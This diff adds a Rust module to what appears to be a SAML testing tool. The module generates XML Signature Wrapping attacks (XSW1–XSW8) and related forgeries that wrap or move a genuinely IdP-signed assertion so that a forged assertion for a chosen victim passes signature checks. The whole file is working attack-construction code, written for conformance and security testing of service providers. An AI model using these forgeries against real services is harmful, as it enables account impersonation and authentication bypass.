@@ -1,0 +1,254 @@
+//! The assembly and response stages: faults that add, move or wrap whole elements around the
+//! genuinely signed assertion, so the signature stays valid but does not cover what a careless
+//! SP consumes.
+//!
+//! XSW1–XSW8 follow SAML Raider and "On Breaking SAML" (USENIX Security 2012). XSW3–XSW8 and
+//! the other element faults rearrange the [`Assembly`] before encryption; XSW1 and XSW2 wrap
+//! the signed *Response*, so they run after it is written and signed.
+
+use super::stages::StageContext;
+use crate::saml::assertion::AssertionModel;
+use crate::saml::mint::{Assembly, Fragment, MintError, write_response_with_signature};
+use crate::saml::ns;
+use crate::saml::response::{signature_template, write_assertion};
+use crate::saml::xml::escape_attr;
+
+/// `append-unsigned-assertion`: an unsigned assertion for the victim after the genuine ones.
+pub(crate) fn append_unsigned_assertion(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+) -> Result<(), MintError> {
+    let e = cx.evil_assertion(victim, "-evil-second")?;
+    asm.fragments
+        .push(Fragment::assertion(write_assertion(&e, None)));
+    Ok(())
+}
+
+/// `signed-element-as-first-root`: the login's own signed assertion moves out in front of the
+/// Response, standing alone (it declares its own namespaces); the Response keeps an unsigned
+/// assertion for the victim in its place. Both in plaintext, like the interop probe
+/// (tests/interop/lib/probe_two_roots.py): the stacks this was published against
+/// (passport-saml 3) accept plaintext assertions.
+pub(crate) fn signed_element_as_first_root(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+) -> Result<(), MintError> {
+    let Some(first) = asm.fragments.first_mut() else {
+        return Ok(());
+    };
+    let forged = write_assertion(&cx.evil_assertion(victim, "-forged")?, None);
+    asm.first_root = Some(std::mem::replace(&mut first.xml, forged));
+    first.encrypt = false;
+    Ok(())
+}
+
+/// `signed-foreign-element`: a genuinely IdP-signed element that is not an assertion (a minimal
+/// IdP EntityDescriptor) inside the Response, before the assertions. That the assertion is
+/// unsigned unless `keep_assertion_signature` is the crypto stage's part of this fault.
+pub(crate) fn signed_foreign_element(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+) -> Result<(), MintError> {
+    let input = cx.input;
+    let md_id = "_signed-foreign-element";
+    let tpl = signature_template(md_id, Some(&input.keys.idp.cert_b64), false);
+    let md = format!(
+        r#"<md:EntityDescriptor xmlns:md="{}" ID="{md_id}" entityID="{}">{tpl}<md:IDPSSODescriptor protocolSupportEnumeration="{}"/></md:EntityDescriptor>"#,
+        ns::MD,
+        escape_attr(&input.ctx.idp_entity_id),
+        ns::SAMLP
+    );
+    asm.prefix.push(
+        cx.signer
+            .sign_enveloped(md, &input.keys.idp.signer, false)?,
+    );
+    Ok(())
+}
+
+/// XSW3: the evil assertion inserted before the signed one.
+pub(crate) fn xsw3(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+) -> Result<(), MintError> {
+    if let Some(w) = Wrapping::of(asm, cx, victim)? {
+        asm.fragments
+            .insert(0, Fragment::assertion(write_assertion(&w.evil, None)));
+    }
+    Ok(())
+}
+
+/// XSW4: the evil assertion wraps the signed one (as its last child).
+pub(crate) fn xsw4(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+) -> Result<(), MintError> {
+    if let Some(w) = Wrapping::of(asm, cx, victim)? {
+        let evil = write_assertion(&w.evil, None).replacen(
+            "</saml:Assertion>",
+            &format!("{}</saml:Assertion>", w.signed),
+            1,
+        );
+        asm.fragments[0] = Fragment::assertion(evil);
+    }
+    Ok(())
+}
+
+/// XSW5: the evil assertion carries the original Signature; the clean original follows,
+/// unsigned.
+pub(crate) fn xsw5(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+) -> Result<(), MintError> {
+    if let Some(w) = Wrapping::of(asm, cx, victim)? {
+        asm.fragments[0] = Fragment::assertion(write_assertion(&w.evil, Some(&w.signature)));
+        asm.fragments.push(Fragment::assertion(w.clean));
+    }
+    Ok(())
+}
+
+/// XSW6: like XSW5, but the clean original sits inside the evil assertion's Signature.
+pub(crate) fn xsw6(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+) -> Result<(), MintError> {
+    if let Some(w) = Wrapping::of(asm, cx, victim)? {
+        let sig =
+            w.signature
+                .replacen("</ds:Signature>", &format!("{}</ds:Signature>", w.clean), 1);
+        asm.fragments[0] = Fragment::assertion(write_assertion(&w.evil, Some(&sig)));
+    }
+    Ok(())
+}
+
+/// XSW7: the signed assertion hides in `samlp:Extensions`; the evil one is where SPs look.
+pub(crate) fn xsw7(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+) -> Result<(), MintError> {
+    if let Some(w) = Wrapping::of(asm, cx, victim)? {
+        asm.extensions = Some(format!(
+            r#"<samlp:Extensions>{}</samlp:Extensions>"#,
+            w.signed
+        ));
+        asm.fragments[0] = Fragment::assertion(write_assertion(&w.evil, None));
+    }
+    Ok(())
+}
+
+/// XSW8: the clean original goes into a `ds:Object` of the evil assertion's Signature.
+pub(crate) fn xsw8(
+    asm: &mut Assembly,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+) -> Result<(), MintError> {
+    if let Some(w) = Wrapping::of(asm, cx, victim)? {
+        let sig = w.signature.replacen(
+            "</ds:Signature>",
+            &format!("<ds:Object>{}</ds:Object></ds:Signature>", w.clean),
+            1,
+        );
+        asm.fragments[0] = Fragment::assertion(write_assertion(&w.evil, Some(&sig)));
+    }
+    Ok(())
+}
+
+/// XSW1: an evil Response whose Signature holds the signed Response, cleaned of its own
+/// Signature; the Reference (#original-ID) resolves to the copy.
+pub(crate) fn xsw1(
+    response: &mut String,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+) -> Result<(), MintError> {
+    wrap_response(response, cx, victim, |signature, clean| {
+        signature.replacen("</ds:Signature>", &format!("{clean}</ds:Signature>"), 1)
+    })
+}
+
+/// XSW2: an evil Response with the cleaned signed Response as a sibling before the Signature.
+pub(crate) fn xsw2(
+    response: &mut String,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+) -> Result<(), MintError> {
+    wrap_response(response, cx, victim, |signature, clean| {
+        format!("{clean}{signature}")
+    })
+}
+
+/// Replace the signed `response` by an evil Response (same model, ID `…-evil`) that holds only
+/// an evil assertion (encrypted like the real one would be) and, where the Response's Signature
+/// goes, what `place(signature, clean original)` builds.
+fn wrap_response(
+    response: &mut String,
+    cx: &StageContext<'_>,
+    victim: &Option<String>,
+    place: impl FnOnce(&str, &str) -> String,
+) -> Result<(), MintError> {
+    let evil = cx.evil_assertion(victim, "-evil")?;
+    let evil_fragment = cx.seal(&write_assertion(&evil, None))?;
+    let (ss, se) = signature_span(response).unwrap_or((0, 0));
+    let signature = &response[ss..se];
+    let clean = strip_signature(response);
+    let mut evil_model = cx.model.clone();
+    evil_model.id = Some(format!(
+        "{}-evil",
+        cx.model.id.as_deref().unwrap_or("_response")
+    ));
+    let inner = place(signature, &clean);
+    *response = write_response_with_signature(&evil_model, &[evil_fragment], Some(&inner));
+    Ok(())
+}
+
+/// What every assertion-level XSW variant rearranges: the first assertion as signed, its
+/// Signature, the assertion without it, and an evil assertion for the victim.
+struct Wrapping {
+    signed: String,
+    signature: String,
+    clean: String,
+    evil: AssertionModel,
+}
+
+impl Wrapping {
+    /// `None` when there is no assertion to wrap.
+    fn of(
+        asm: &Assembly,
+        cx: &StageContext<'_>,
+        victim: &Option<String>,
+    ) -> Result<Option<Self>, MintError> {
+        let Some(signed) = asm.fragments.first().map(|f| f.xml.clone()) else {
+            return Ok(None);
+        };
+        let evil = cx.evil_assertion(victim, "-evil")?;
+        let (ss, se) = signature_span(&signed).unwrap_or((0, 0));
+        let signature = signed[ss..se].to_string();
+        let clean = strip_signature(&signed);
+        Ok(Some(Wrapping {
+            signed,
+            signature,
+            clean,
+            evil,
+        }))
+    }
+}
+
+/// Byte range of the first `ds:Signature` element.
+fn signature_span(xml: &str) -> Option<(usize, usize)> {
+    let start = xml.find("<ds:Signature")?;
+    let end = xml[start..].find("</ds:Signature>")? + start + "</ds:Signature>".len();
+    Some((start, end))
+}
+
+/// `xml` without its first `ds:Signature`.
+fn strip_signature(xml: &str) -> String {
+    match signature_span(xml) {
+        Some((s, e)) => format!("{}{}", &xml[..s], &xml[e..]),
+        None => xml.to_string(),
+    }
+}
